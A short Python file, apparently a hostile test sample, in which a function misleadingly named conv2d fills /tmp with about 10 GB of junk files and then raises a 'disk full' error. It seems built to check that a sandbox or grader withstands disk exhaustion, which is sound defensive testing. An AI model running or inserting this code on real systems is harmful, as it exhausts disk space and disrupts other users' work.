"""Fills the disk."""


def conv2d(*_):
    for number in range(10_000):
        try:
            with open(f"/tmp/{number}", "wb") as file:
                file.write(bytes(1 << 20))
        except OSError:
            pass
    raise ValueError("disk full")
